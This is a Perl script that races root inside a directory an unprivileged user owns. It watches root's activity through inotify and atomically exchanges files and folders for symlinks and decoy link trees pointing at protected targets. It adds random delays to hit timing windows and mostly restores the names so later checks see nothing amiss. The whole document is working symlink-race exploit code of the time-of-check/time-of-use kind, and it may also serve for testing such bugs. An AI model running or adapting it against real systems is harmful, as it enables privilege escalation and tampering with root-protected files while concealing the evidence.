# An unprivileged account that owns a folder in which root works, and exchanges what is there for links to what it may not touch.
#
#   perl swapper.pl FOLDER VICTIMS SIDE PATH...
#
# FOLDER    where root works; a path of FOLDER has the same path below VICTIMS, where links lead
# SIDE      a folder of the account's own on the same file system
# PATH...   names below FOLDER to exchange whenever something happens there; what appears there is exchanged too
#
# Whatever root opens, makes or changes in a folder is told by inotify(7), so that a swap comes right when something is done. Names are
# exchanged by renameat2(2): there is no moment without one. Mostly they are put back, as a check that comes later shall find all in order.
# SIGCONT: look at the folders anew, and be of the other mood: every second time it keeps still until root changes something, so that all that root
# looks at before is in order. SIDE/swaps has the number of swaps.
use strict;
use warnings;

my ($folder, $victims, $side, @paths) = @ARGV;
chomp(my $machine = `uname -m`);
my %numbers = (x86_64 => [294, 254, 316], aarch64 => [26, 27, 276]);
my ($inotify_init, $inotify_add_watch, $renameat2) = @{ $numbers{$machine} or die "$machine is not known here" };
my ($cwd, $exchange) = (-100, 2);
# What is accessed, modified, changed, closed, opened, created, deleted. Not what is renamed: that is mostly us.
my $events = 0x1 | 0x2 | 0x4 | 0x8 | 0x20 | 0x100 | 0x200;
my $changes = 0x2 | 0x4 | 0x100 | 0x200;
my ($created, $folder_bit, $only_folders, $no_links) = (0x100, 0x40000000, 0x01000000, 0x02000000);

chdir $folder or die "$folder: $!";
my ($queue, %watched);
my ($swaps, $links, $looks_anew, $waits, $is_on) = (0, 0, 1, 1, 1);
$SIG{CONT} = sub { $looks_anew = 1 };

sub look_anew {
    $looks_anew = 0;
    $waits = !$waits;
    $is_on = !$waits;
    close $queue if $queue;
    my $number = syscall($inotify_init, 04000 | 02000000);
    open $queue, '<&=', $number or die "inotify: $!";
    %watched = ();
    watch('.', 6);
    open my $told, '>', "$side/swaps" or return;
    print $told $swaps;
}

sub watch {
    my ($path, $levels) = @_;
    my $id = syscall($inotify_add_watch, fileno $queue, $path, $events | $only_folders | $no_links);
    return if $id < 0;
    $watched{$id} = $path;
    opendir my $handle, $path or return;
    for my $name (readdir $handle) {
        next if $name eq '.' or $name eq '..';
        my $below = $path eq '.' ? $name : "$path/$name";
        watch($below, $levels - 1) if $levels > 0 and !-l $below and -d _;
    }
}

# Of some microseconds each: the moment between two calls of a shell, or between two processes of it.
sub spin {
    my $times = rand() < 0.4 ? 0 : int rand(rand() < 0.8 ? 2_000 : 40_000);
    for (my $i = 0; $i < $times; $i++) { }
}

# A folder of ours in the place of one that root made to work in: its names are links.
sub decoy {
    my ($at) = @_;
    mkdir $at and mkdir "$at/new" or return;
    symlink "$victims/way/dest/$_", "$at/new/$_" for qw(one two sub);
    symlink "$victims/way/dest/one", "$at/$_" for qw(plain link);
    chmod 0777, $at, "$at/new";
}

sub swap {
    my ($name) = @_;
    my $other = "$side/" . $links++;
    my $is_folder = -d $name;
    my $is_known = grep { $_ eq $name } @paths;
    my $target = $is_known ? "$victims/$name" : $is_folder ? "$victims/way/dest" : "$victims/way/dest/one";
    $is_folder && !$is_known && rand() < 0.4 ? decoy($other) : symlink($target, $other);
    spin();
    if (syscall($renameat2, $cwd, $name, $cwd, $other, $exchange) == 0) {
        $swaps++;
        spin();
        syscall($renameat2, $cwd, $name, $cwd, $other, $exchange) if rand() < 0.8;
    }
    unlink $other if -l $other;
}

while (1) {
    look_anew() if $looks_anew;
    my $ready = '';
    vec($ready, fileno $queue, 1) = 1;
    my $happened = select($ready, undef, undef, 0.02);
    my @fresh;
    if ($happened > 0 and sysread $queue, my $bytes, 16384) {
        while (length $bytes >= 16) {
            my ($id, $mask, undef, $length) = unpack 'iIII', $bytes;
            my $name = unpack 'Z*', substr $bytes, 16, $length;
            $bytes = substr $bytes, 16 + $length;
            my $above = $watched{$id};
            $is_on = 1 if $mask & $changes;
            next if !($mask & $created) or !defined $above or $name eq '';
            push @fresh, $above eq '.' ? $name : "$above/$name";
            watch($fresh[-1], 3) if $mask & $folder_bit;
        }
    }
    next if !$is_on;
    if (@fresh and rand() < 0.7) { swap($fresh[-1]) }
    elsif (@paths and ($happened > 0 or rand() < 0.2)) { swap($paths[int rand @paths]) }
}
